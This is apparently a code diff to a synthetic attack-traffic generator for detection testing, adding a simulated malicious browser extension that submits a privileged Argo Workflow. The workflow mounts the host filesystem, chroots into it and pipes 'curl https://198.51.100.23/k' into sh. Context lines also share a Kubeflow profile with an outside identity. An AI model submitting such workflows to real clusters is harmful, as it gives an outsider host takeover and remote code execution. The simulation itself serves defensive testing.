@@ -34,7 +34,8 @@ import { LINUX, MAC, PLATFORM_HINT, WS_UPGRADE, prng, withAttacks, attackAdder, 
  * and a ClusterWorkflowTemplate given a step that runs as Argo's own account; a Ray job submitted
  * through the gateway from outside; GPU miners in a quiet namespace at night; MinIO's root keys
  * read and MinIO port-forwarded; a production InferenceService's storageUri pointed at an outside
- * bucket; a Kubeflow profile shared with an outside identity through the access-management API.
+ * bucket; a Kubeflow profile shared with an outside identity through the access-management API;
+ * a privileged Workflow created through the Argo Server's own API from a browser.
  */
 
 export const D17_MON = Date.UTC(2027, 8, 13, 0, 0, 0); // warm-up
@@ -476,5 +477,17 @@ function attacks17(people: Person[], routine: DayEvent[]): DayEvent[] {
     ['GET', '/kfam/v1/bindings?namespace=team-vision', false, b1.headers, undefined, KUBEFLOW],
     ['POST', '/kfam/v1/bindings', true, { ...b1.headers, ...JSON_CT }, JSON.stringify({ user: { kind: 'User', name: 'ml-consult@protonmail.example' }, referredNamespace: ds1.team, RoleRef: { kind: 'ClusterRole', name: 'kubeflow-edit' } }), KUBEFLOW],
   ], 5 * S, ds1);
+
+  // 9. The same notebook extension's kind of reach, in another data scientist's browser: a
+  // privileged Workflow created through the Argo Server's own API (the UI's "Submit"), which
+  // creates it in the cluster with the caller's token from inside (auth mode `client`): the body
+  // never passes the gateway as a Kubernetes request.
+  const ds4 = by('ds-4');
+  const b4 = lastOf(routine, ds4.name, T(11.1), (x) => x.headers?.['sec-ch-ua'] !== undefined);
+  const wf = { metadata: { generateName: 'eda-', namespace: ds4.team }, spec: { entrypoint: 'main', volumes: [{ name: 'host', hostPath: { path: '/' } }], templates: [{ name: 'main', container: { image: 'alpine:3.20', command: ['sh', '-c', 'chroot /host sh -c "curl -s https://198.51.100.23/k | sh"'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] } }] } };
+  add("a privileged Workflow created through the Argo Server's API (malicious extension in a data scientist's browser)", T(11.1), b4.ip, b4.ua, b4.login, [
+    ['GET', `/api/v1/workflows/${ds4.team}?listOptions.limit=50`, false, b4.headers, undefined, ARGO],
+    ['POST', `/api/v1/workflows/${ds4.team}`, true, { ...b4.headers, ...JSON_CT }, JSON.stringify({ namespace: ds4.team, serverDryRun: false, workflow: wf }), ARGO],
+  ], 3 * S, ds4);
   return out;
 }
